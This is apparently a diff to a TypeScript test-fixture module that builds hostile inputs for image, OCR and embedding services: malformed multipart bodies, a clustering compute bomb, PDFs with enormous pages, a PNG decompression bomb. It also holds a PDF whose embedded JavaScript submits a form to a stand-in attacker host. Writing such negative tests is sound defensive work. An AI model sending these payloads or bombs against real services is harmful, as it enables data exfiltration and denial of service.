@@ -37,7 +37,10 @@ export type BadKind =
   | "oversized_json"
   | "invalid_utf8"
   | "injection"
-  | "malformed_json";
+  | "malformed_json"
+  | "malformed_multipart"
+  | "compute_bomb"
+  | "pdf_huge_page";
 
 /** 10 MiB, the documented MAX_IMAGE_SIZE. */
 export const MAX_IMAGE_SIZE = 10 * 1024 * 1024;
@@ -64,6 +67,8 @@ export interface Samples {
   bomb: Uint8Array;
   pdfJavascript: Uint8Array;
   pdf1000: Uint8Array;
+  /** One page of 14 400 pt square (5 m), and one of 1 000 000 pt. */
+  pdfHugePages: [number, Uint8Array][];
 }
 
 export async function makeSamples(): Promise<Samples> {
@@ -81,6 +86,7 @@ export async function makeSamples(): Promise<Samples> {
     bomb: await makePngBomb(30_000, 30_000),
     pdfJavascript: makePdf(1, true),
     pdf1000: makePdf(1000, false),
+    pdfHugePages: [14_400, 1_000_000].map((side) => [side, makePdf(1, false, [side, side])]),
   };
 }
 
@@ -88,7 +94,11 @@ export async function makeSamples(): Promise<Samples> {
  * A small valid PDF with `pages` pages (each a grey rectangle); `javascript` adds an
  * OpenAction that runs JavaScript in a viewer that allows it (the services must not).
  */
-export function makePdf(pages: number, javascript: boolean): Uint8Array {
+export function makePdf(
+  pages: number,
+  javascript: boolean,
+  [width, height]: [number, number] = [200, 100],
+): Uint8Array {
   const objects: string[] = [];
   const pageIds = Array.from({ length: pages }, (_, i) => 5 + i);
   const content = "0.3 g 20 20 160 60 re f";
@@ -99,7 +109,8 @@ export function makePdf(pages: number, javascript: boolean): Uint8Array {
     ? "<< /Type /Action /S /JavaScript /JS (app.alert\\('pwned'\\); this.submitForm\\('http://attacker.invalid/'\\);) >>"
     : "<< >>";
   for (const id of pageIds)
-    objects[id] = "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 100] /Contents 3 0 R >>";
+    objects[id] =
+      `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 ${width} ${height}] /Contents 3 0 R >>`;
   let out = "%PDF-1.4\n%\xe2\xe3\xcf\xd3\n";
   const offsets: number[] = [];
   for (let id = 1; id < objects.length; id++) {
@@ -181,6 +192,12 @@ const RESTRICTED_FIELDS: Record<PhaseServiceName, string[]> = {
   ocr_extractor: ["document_type", "confidence_threshold"],
 };
 
+/** Whether a route renders PDFs (the others refuse them: 415). */
+function rendersPdf(target: BadInput["target"], path: string): boolean {
+  if (target === "image_processor" || target === "ocr_extractor") return true;
+  return target === "gateway" && /^\/(process|image-processor|ocr-extractor)\b/.test(path);
+}
+
 /**
  * Upload-route cases for one route (a phase service's, or the gateway's proxy of it).
  * `target` names who answers; `path` and `fields` the route.
@@ -252,6 +269,16 @@ export function uploadCases(
       "PDF with 1000 pages",
       form({ bytes: s.pdf1000, name: "long.pdf", type: "application/pdf" }, fields),
       [200, 413, 415, 422],
+    ),
+    // A page no resolution fits within the pixel limit (issue 25, finding 8): refused with the
+    // same 413 wherever PDFs are rendered; 415 where they are not accepted.
+    ...s.pdfHugePages.map(([side, bytes]) =>
+      post(
+        "pdf_huge_page",
+        `PDF page of ${side} × ${side} pt`,
+        form({ bytes, name: "huge.pdf", type: "application/pdf" }, fields),
+        [rendersPdf(target, path) ? 413 : 415],
+      ),
     ),
     post(
       "polyglot",
@@ -391,8 +418,66 @@ export function phaseServiceCases(s: Samples): BadInput[] {
   ][]) {
     cases.push(...uploadCases(service, route.path, s, route.fields, RESTRICTED_FIELDS[service]));
   }
+  for (const [service, paths] of Object.entries(MULTIPART_ROUTES) as [
+    PhaseServiceName,
+    string[],
+  ][]) {
+    for (const path of paths) cases.push(...malformedMultipartCases(service, path));
+  }
   cases.push(...jsonCases(s));
   return cases;
+}
+
+/** Every route of each phase service that reads a multipart upload. */
+export const MULTIPART_ROUTES: Record<PhaseServiceName, string[]> = {
+  image_processor: ["/process", "/detect-corners", "/unwarp"],
+  ml_embeddings: ["/embed", "/embed_and_cluster", "/find-similar"],
+  ml_classifier: ["/classify"],
+  ocr_extractor: ["/extract", "/extract-json"],
+};
+
+/**
+ * Bodies labelled multipart that are not (issue 25, finding 3): cut before the closing
+ * boundary, a boundary other than the declared one, random bytes. The client's fault: 400.
+ */
+export function malformedMultipartCases(target: BadInput["target"], path: string): BadInput[] {
+  const head =
+    '--XYZ\r\nContent-Disposition: form-data; name="file"; filename="a.png"\r\nContent-Type: image/png\r\n\r\n';
+  const random = new Uint8Array(4096);
+  let state = 25;
+  for (let i = 0; i < random.length; i++) {
+    state = (state * 1103515245 + 12345) >>> 0;
+    random[i] = state >>> 24;
+  }
+  const bodies: [string, string, Uint8Array | string][] = [
+    ["body cut before its closing boundary", "XYZ", `${head}ABCDEF`],
+    ["boundary other than the declared one", "ABC", `${head}ABCDEF\r\n--XYZ--\r\n`],
+    ["random bytes", "XYZ", random],
+  ];
+  return bodies.map(([name, boundary, body]) => ({
+    target,
+    kind: "malformed_multipart",
+    name: `${path} ${name}`,
+    method: "POST",
+    path,
+    headers: { "content-type": `multipart/form-data; boundary=${boundary}` },
+    body,
+    expect: [400],
+  }));
+}
+
+/**
+ * Embeddings whose clustering would take minutes (issue 25, finding 1): 3000 × 64 with
+ * max_clusters 1000 is beyond the compute budget, refused up front.
+ */
+export function clusteringBomb(): string {
+  let state = 1;
+  const next = () => {
+    state = (state * 1103515245 + 12345) >>> 0;
+    return Math.round((state / 2 ** 32) * 1e4) / 1e4;
+  };
+  const embeddings = Array.from({ length: 3000 }, () => Array.from({ length: 64 }, next));
+  return JSON.stringify({ embeddings, max_clusters: 1000 });
 }
 
 const oversizedJson = (() => {
@@ -440,6 +525,15 @@ function jsonCases(_s: Samples): BadInput[] {
     "POST",
     "/cluster",
     { headers: { "content-type": "application/json" }, body: oversizedJson() },
+    [413],
+  );
+  add(
+    "ml_embeddings",
+    "compute_bomb",
+    "3000 × 64 embeddings with max_clusters 1000",
+    "POST",
+    "/cluster",
+    { headers: { "content-type": "application/json" }, body: clusteringBomb() },
     [413],
   );
   add(
